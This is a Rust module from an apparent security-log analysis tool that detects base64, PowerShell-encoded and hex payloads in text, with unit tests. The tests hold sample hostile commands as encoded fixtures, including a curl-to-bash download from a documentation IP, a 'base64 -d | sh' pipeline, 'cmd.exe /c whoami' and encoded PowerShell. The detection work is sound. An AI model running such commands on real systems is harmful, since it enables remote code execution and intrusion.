//! Finding encoded runs in text and deciding which are real payloads.
//!
//! The patterns are loose (any long base64-alphabet run); the decision is
//! made on what a run decodes to, because look-alikes are common in logs:
//! hex hashes are valid base64, and long slash paths are too.

use std::sync::OnceLock;

use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use base64::Engine;
use regex::Regex;

use super::magic;

/// How a run is encoded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Encoding {
    /// Base64 of bytes (UTF-8 text or binary).
    Base64,
    /// Base64 of UTF-16LE text: PowerShell `-EncodedCommand`.
    Utf16Base64,
    /// Hex digits, plain or `\xNN`.
    Hex,
}

impl Encoding {
    /// The `encoding_type` column value.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Encoding::Base64 => "base64",
            Encoding::Utf16Base64 => "utf16le_base64",
            Encoding::Hex => "hex",
        }
    }
}

/// A decoded run of a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Run {
    /// Byte span in the text.
    pub start: usize,
    /// End of the span (exclusive).
    pub end: usize,
    /// How it was encoded.
    pub encoding: Encoding,
    /// The decoded bytes.
    pub bytes: Vec<u8>,
}

struct Patterns {
    powershell: Regex,
    base64: Regex,
    hex: Regex,
    escaped_hex: Regex,
}

fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    // Constant patterns compiled by the tests: they cannot fail here.
    P.get_or_init(|| Patterns {
        // -e, -ec, -en, -enc, … -EncodedCommand: PowerShell accepts any
        // unambiguous prefix of the parameter name.
        powershell: Regex::new(
            r"(?i)(?:^|[\s\x22'])[-/](?:e|ec|en|enc|enco|encod|encode|encoded|encodedc|encodedco|encodedcom|encodedcomm|encodedcomma|encodedcomman|encodedcommand)\s+[\x22']?([A-Za-z0-9+/]{8,}={0,2})",
        )
        .expect("powershell pattern"),
        base64: Regex::new(r"[A-Za-z0-9+/]{16,}={0,2}").expect("base64 pattern"),
        hex: Regex::new(r"(?-u:\b)(?:[0-9A-Fa-f]{2}){8,}(?-u:\b)").expect("hex pattern"),
        escaped_hex: Regex::new(r"(?:\\x[0-9A-Fa-f]{2}){8,}").expect("escaped hex pattern"),
    })
}

fn engine() -> &'static GeneralPurpose {
    static E: OnceLock<GeneralPurpose> = OnceLock::new();
    E.get_or_init(|| {
        GeneralPurpose::new(
            &alphabet::STANDARD,
            GeneralPurposeConfig::new()
                .with_decode_padding_mode(DecodePaddingMode::Indifferent)
                .with_decode_allow_trailing_bits(true),
        )
    })
}

/// Decodes base64 leniently: padding optional, a dangling last character dropped.
pub(crate) fn base64_bytes(run: &str) -> Option<Vec<u8>> {
    let trimmed = run.trim_end_matches('=');
    // One character past a multiple of four carries no whole byte.
    let usable = if trimmed.len() % 4 == 1 {
        trimmed.len() - 1
    } else {
        trimmed.len()
    };
    engine().decode(&trimmed[..usable]).ok()
}

/// Whether bytes are mostly printable text (tabs and newlines count).
fn is_text(s: &str) -> bool {
    let total = s.chars().count();
    let printable = s
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    total > 0 && printable * 10 >= total * 9
}

/// Keeps a decoded hex run only when it is a known file type or text: most
/// hex in logs (ids, keys) decodes to noise.
fn push_hex(runs: &mut Vec<Run>, start: usize, end: usize, bytes: Vec<u8>) {
    if magic::identify(&bytes).is_some() || utf8_text(&bytes).is_some() {
        runs.push(Run {
            start,
            end,
            encoding: Encoding::Hex,
            bytes,
        });
    }
}

/// UTF-16LE text where the context says so (a PowerShell `-enc` argument),
/// or `None`: any printable decoding without unpaired surrogates.
pub(crate) fn utf16le_declared(bytes: &[u8]) -> Option<String> {
    if bytes.len() < 2 || bytes.len() % 2 != 0 {
        return None;
    }
    let units = bytes
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]));
    let s: String = char::decode_utf16(units)
        .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
        .collect();
    (is_text(&s) && !s.contains(char::REPLACEMENT_CHARACTER)).then_some(s)
}

/// UTF-16LE text with no context saying so, or `None`. Most 16-bit units
/// are printable (CJK and other letters), so random bytes pass
/// [`utf16le_declared`] more often than not (issue #11: 57 of 100 random
/// 48-byte blobs); text a command line or script carries is mostly
/// ASCII-range units, random bytes almost never (1 unit in 512).
pub(crate) fn utf16le_text(bytes: &[u8]) -> Option<String> {
    let ascii = bytes.chunks_exact(2).filter(|c| c[1] == 0 && c[0] < 0x80);
    if ascii.count() * 4 < bytes.len() {
        return None;
    }
    utf16le_declared(bytes)
}

/// UTF-8 text, or `None`.
pub(crate) fn utf8_text(bytes: &[u8]) -> Option<String> {
    let s = std::str::from_utf8(bytes).ok()?;
    is_text(s).then(|| s.to_string())
}

/// Whether a base64-alphabet run is a slash path (`/usr/local/lib/…`,
/// `src/main/java/…`), the common look-alike in logs, which decodes to
/// noise. A path is short segments of words: each at most three
/// capitalised or lower-case humps (`usr`, `AppData`, `WindowsPowerShell`)
/// then digits (`python3`, `System32`, `2024`). Base64 puts a `/` once in
/// 64 characters on average and switches case and digits at random, so
/// its segments are long and fail this (none of 300,000 random runs of 30
/// bytes or more did).
fn looks_like_path(run: &str) -> bool {
    let run = run.trim_end_matches('=');
    run.contains('/')
        && run
            .split('/')
            .filter(|s| !s.is_empty())
            .all(|s| word_like(s.as_bytes()))
}

/// `(?:[A-Z]+[a-z]*|[a-z]+){0,3}[0-9]*`, at most 32 bytes.
fn word_like(seg: &[u8]) -> bool {
    if seg.len() > 32 {
        return false;
    }
    let mut humps = 0;
    let mut i = 0;
    while i < seg.len() && seg[i].is_ascii_alphabetic() {
        humps += 1;
        while i < seg.len() && seg[i].is_ascii_uppercase() {
            i += 1;
        }
        while i < seg.len() && seg[i].is_ascii_lowercase() {
            i += 1;
        }
    }
    humps <= 3 && seg[i..].iter().all(u8::is_ascii_digit)
}

/// Narrowest line width taken for wrapped base64.
const MIN_WRAP_WIDTH: usize = 32;

/// A base64 run that runs on over line breaks, as MIME, PEM, `base64` and
/// certutil wrap it (76 or 64 characters a line): the end of the whole run
/// in `text` and its characters without the breaks, or `None` when the run
/// at `start..end` is not the first line of such a block.
///
/// The run continues while the line it ends is full: a line of exactly
/// the first line's width, no padding, a multiple of 4 (each encoder
/// wraps at one, so every line is whole quads) and at least 32. The next
/// line, after CR LF or LF and optional indentation, holds only the
/// alphabet: another full line, or a shorter last line of whole quads
/// (padding included) that ends its line, ends with padding or is closed
/// by a quote. Anything else (a word, a longer line) leaves the run as it
/// was, so a line that merely ends in a long token does not swallow the
/// next one.
fn wrapped(text: &str, start: usize, end: usize) -> Option<(usize, String)> {
    let b = text.as_bytes();
    let width = end - start;
    if width < MIN_WRAP_WIDTH || width % 4 != 0 || b[end - 1] == b'=' {
        return None;
    }
    let is_b64 = |c: u8| c.is_ascii_alphanumeric() || c == b'+' || c == b'/';
    let mut joined = text[start..end].to_string();
    let mut last = end;
    loop {
        let mut i = last;
        if b.get(i) == Some(&b'\r') {
            i += 1;
        }
        if b.get(i) != Some(&b'\n') {
            break;
        }
        i += 1;
        while matches!(b.get(i), Some(b' ' | b'\t')) {
            i += 1;
        }
        let run_start = i;
        while i < b.len() && is_b64(b[i]) {
            i += 1;
        }
        let chars = i - run_start;
        let mut pad = 0;
        while pad < 2 && b.get(i) == Some(&b'=') {
            i += 1;
            pad += 1;
        }
        let line_ends = matches!(b.get(i), None | Some(b'\r' | b'\n'));
        if chars == 0 || chars > width {
            break;
        }
        if chars == width && pad == 0 && line_ends {
            joined.push_str(&text[run_start..i]);
            last = i;
            continue;
        }
        // What may follow a last line: the end of a quoted string or call.
        let closed = pad > 0
            || b[i..]
                .iter()
                .take_while(|&&c| c != b'\n')
                .all(|c| b"\"'); \t\r".contains(c));
        if (chars + pad) % 4 == 0 && closed {
            joined.push_str(&text[run_start..i]);
            last = i;
        }
        break;
    }
    (last > end).then_some((last, joined))
}

/// A base64 run of the text, `wrapped` over lines when it is.
fn base64_run(text: &str, start: usize, end: usize) -> (usize, std::borrow::Cow<'_, str>) {
    match wrapped(text, start, end) {
        Some((end, joined)) => (end, joined.into()),
        None => (end, text[start..end].into()),
    }
}

/// Every decodable run in `text`, in order, without overlaps.
///
/// A base64 run of at least `min_base64_len` characters that decodes is
/// always reported, as text when it is text and else as binary with its
/// file type (as MSTICPy does), except the two look-alikes that are not
/// payloads: hex-only runs (hashes, left to the hex pass) and slash paths.
pub(crate) fn find_runs(
    text: &str,
    min_base64_len: usize,
    min_hex_len: usize,
    hex: bool,
) -> Vec<Run> {
    let p = patterns();
    let mut runs: Vec<Run> = Vec::new();
    let overlaps = |runs: &[Run], s: usize, e: usize| runs.iter().any(|r| s < r.end && r.start < e);

    for caps in p.powershell.captures_iter(text) {
        let Some(m) = caps.get(1) else { continue };
        let (end, run) = base64_run(text, m.start(), m.end());
        if let Some(bytes) = base64_bytes(&run) {
            if utf16le_declared(&bytes).is_some() || magic::identify(&bytes).is_some() {
                runs.push(Run {
                    start: m.start(),
                    end,
                    encoding: Encoding::Utf16Base64,
                    bytes,
                });
            }
        }
    }
    // End of the last wrapped block: its lines are not runs of their own,
    // whether the block was kept or not (a long list of hashes would
    // otherwise be re-joined from every line, quadratic in its length).
    let mut covered = 0;
    for m in p.base64.find_iter(text) {
        if m.start() < covered || overlaps(&runs, m.start(), m.end()) {
            continue;
        }
        let (end, s) = base64_run(text, m.start(), m.end());
        covered = end;
        if s.len() < min_base64_len {
            continue;
        }
        // Hex-only runs (hashes) are hex candidates, not base64.
        if s.trim_end_matches('=')
            .bytes()
            .all(|b| b.is_ascii_hexdigit())
        {
            continue;
        }
        let Some(bytes) = base64_bytes(&s) else {
            continue;
        };
        let utf8 = utf8_text(&bytes).is_some();
        if !utf8 && magic::identify(&bytes).is_none() && looks_like_path(&s) {
            continue;
        }
        let encoding = if !utf8 && utf16le_text(&bytes).is_some() {
            Encoding::Utf16Base64
        } else {
            Encoding::Base64
        };
        runs.push(Run {
            start: m.start(),
            end,
            encoding,
            bytes,
        });
    }
    if hex {
        for m in p.hex.find_iter(text) {
            let s = m.as_str();
            // Exactly hash-sized runs are hashes: leave them alone.
            if s.len() < min_hex_len
                || matches!(s.len(), 32 | 40 | 64 | 128)
                || overlaps(&runs, m.start(), m.end())
            {
                continue;
            }
            if let Ok(bytes) = hex::decode(s) {
                push_hex(&mut runs, m.start(), m.end(), bytes);
            }
        }
        for m in p.escaped_hex.find_iter(text) {
            if overlaps(&runs, m.start(), m.end()) {
                continue;
            }
            let digits: String = m.as_str().split("\\x").collect();
            if let Ok(bytes) = hex::decode(digits) {
                push_hex(&mut runs, m.start(), m.end(), bytes);
            }
        }
    }
    runs.sort_by_key(|r| r.start);
    runs
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::engine::general_purpose::STANDARD;

    fn runs(text: &str) -> Vec<Run> {
        find_runs(text, 30, 32, true)
    }

    #[test]
    fn base64_text_is_found() {
        let b64 = STANDARD.encode("curl -fsSL http://203.0.113.50/x.sh | bash");
        let r = runs(&format!("echo {b64} | base64 -d | sh"));
        assert_eq!(r.len(), 1);
        assert_eq!(r[0].encoding, Encoding::Base64);
        assert_eq!(r[0].bytes, b"curl -fsSL http://203.0.113.50/x.sh | bash");
    }

    #[test]
    fn powershell_prefixes_decode_as_utf16() {
        let cmd: Vec<u8> = "Get-Process | Stop-Process"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let b64 = STANDARD.encode(&cmd);
        for flag in ["-enc", "-e", "-EncodedCommand", "-ENCODEDC", "/ec"] {
            let r = runs(&format!("powershell.exe -nop {flag} {b64}"));
            assert_eq!(r.len(), 1, "{flag}");
            assert_eq!(r[0].encoding, Encoding::Utf16Base64);
        }
    }

    #[test]
    fn look_alikes_are_not_payloads() {
        let md5 = "d41d8cd98f00b204e9800998ecf8427e";
        let sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        assert!(runs(&format!("md5 {md5} sha256 {sha256}")).is_empty());
        assert!(runs("/usr/local/lib/python3/dist/packages/module/sub/file").is_empty());
        assert!(runs("short aGVsbG8=").is_empty());
        assert!(runs("").is_empty());
        assert!(runs("ünïcödé text without payloads ✓").is_empty());
    }

    #[test]
    fn hex_runs() {
        let h = hex::encode("cmd.exe /c whoami /all & ping");
        let r = runs(&format!("payload {h} end"));
        assert_eq!(r.len(), 1);
        assert_eq!(r[0].encoding, Encoding::Hex);
        let escaped: String = b"powershell -c id"
            .iter()
            .map(|b| format!("\\x{b:02x}"))
            .collect();
        let r = runs(&escaped);
        assert_eq!(r[0].bytes, b"powershell -c id");
    }

    /// Deterministic pseudo-random bytes (xorshift64*), no extra crate.
    fn noise(seed: u64, len: usize) -> Vec<u8> {
        let mut x = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
        (0..len)
            .map(|_| {
                x ^= x >> 12;
                x ^= x << 25;
                x ^= x >> 27;
                (x.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 56) as u8
            })
            .collect()
    }

    /// `b64` wrapped at `width` characters with `newline` and `indent`.
    fn wrap(b64: &str, width: usize, newline: &str, indent: &str) -> String {
        b64.as_bytes()
            .chunks(width)
            .map(|c| format!("{indent}{}", std::str::from_utf8(c).unwrap()))
            .collect::<Vec<_>>()
            .join(newline)
    }

    /// Issue #11 (bug 5): base64 wrapped at 76 or 64 characters, as MIME,
    /// PEM and `base64` write it, is one run, not one fragment per line.
    #[test]
    fn issue_11_wrapped_base64_is_one_run() {
        let payload = noise(7, 300);
        let b64 = STANDARD.encode(&payload);
        for (width, newline, indent) in [(76, "\n", ""), (76, "\r\n", ""), (64, "\n", "    ")] {
            let text = format!(
                "data:\n{}\nend of data\n",
                wrap(&b64, width, newline, indent)
            );
            let r = runs(&text);
            assert_eq!(r.len(), 1, "{width} {newline:?} {indent:?}: {r:?}");
            assert_eq!(r[0].bytes, payload);
            let span = wrap(&b64, width, newline, indent);
            assert_eq!(&text[r[0].start..r[0].end], span.trim_start());
        }
        // A script's quoted string, and a PowerShell -enc argument.
        let text = format!("$b = \"{}\")\n", wrap(&b64, 76, "\n", ""));
        assert_eq!(runs(&text)[0].bytes, payload);
        let cmd: Vec<u8> = "Write-Output 'a wrapped encoded command, long enough to wrap'"
            .repeat(3)
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let text = format!(
            "powershell -enc\n{}\n",
            wrap(&STANDARD.encode(&cmd), 76, "\n", "")
        );
        let r = runs(&text);
        assert_eq!(r.len(), 1);
        assert_eq!((r[0].encoding, &r[0].bytes), (Encoding::Utf16Base64, &cmd));
    }

    /// Issue #11 (bug 5): what is not a wrapped block stays as it was.
    #[test]
    fn issue_11_unwrapped_lines_are_not_joined() {
        let a = STANDARD.encode(noise(1, 57)); // 76 characters, no padding
        let b = STANDARD.encode(noise(2, 57));
        // A full-width line, then a word: the word is not base64.
        let r = runs(&format!("{a}\nWrite-Host done\n"));
        assert_eq!((r.len(), r[0].end), (1, 76));
        // A longer line after a full one starts a run of its own.
        let r = runs(&format!("{a}\n{b}AAAA\n"));
        assert_eq!(r.len(), 2);
        // A last line that is not whole quads is not part of the block.
        let r = runs(&format!("{a}\n{}\n", &b[..37]));
        assert_eq!(r.len(), 2);
        // A padded first line ends its run.
        let padded = STANDARD.encode(noise(3, 56));
        let r = runs(&format!("{padded}\n{b}\n"));
        assert_eq!(r.len(), 2);
        // A long list of equal-width hashes is no payload, and stays linear.
        let hashes: String = (0..20_000u64)
            .map(|i| format!("{}\n", hex::encode(noise(i, 32))))
            .collect();
        assert!(find_runs(&hashes, 30, 32, false).is_empty());
    }

    /// Issue #11 (bug 6): random bytes are binary, never UTF-16 text, and
    /// every run that met the length rule is reported.
    #[test]
    fn issue_11_random_blobs_are_binary_and_kept() {
        for seed in 0..100 {
            let blob = noise(seed, 48);
            let b64 = STANDARD.encode(&blob);
            let r = runs(&format!("blob {b64} end"));
            assert_eq!(r.len(), 1, "seed {seed}: {b64}");
            assert_eq!(r[0].encoding, Encoding::Base64, "seed {seed}: {b64}");
            assert_eq!(r[0].bytes, blob);
            assert!(utf16le_text(&blob).is_none(), "seed {seed}");
        }
        // UTF-16LE text without -enc context is still told by its evidence.
        let text: Vec<u8> = "Start-Process notepad.exe -WindowStyle Hidden"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let r = runs(&STANDARD.encode(&text));
        assert_eq!(r[0].encoding, Encoding::Utf16Base64);
    }

    #[test]
    fn paths_are_told_from_base64() {
        for path in [
            "/usr/local/lib/python3/dist/packages/module/sub/file",
            "/home/User/AppData/Local/Microsoft/WindowsApps",
            "src/main/java/com/example/project/MyClass",
            "/var/log/2024/03/WindowsPowerShell/PSReadLine2",
        ] {
            assert!(looks_like_path(path), "{path}");
        }
        for seed in 0..2000 {
            let b64 = STANDARD.encode(noise(seed, 30));
            assert!(!looks_like_path(&b64), "{b64}");
        }
    }

    #[test]
    fn lenient_base64() {
        assert_eq!(base64_bytes("aGVsbG8gd29ybGQ").unwrap(), b"hello world");
        assert_eq!(base64_bytes("aGVsbG8gd29ybGQ=").unwrap(), b"hello world");
        assert_eq!(base64_bytes("aGVsbG8gd29ybGQhx").unwrap(), b"hello world!");
    }
}
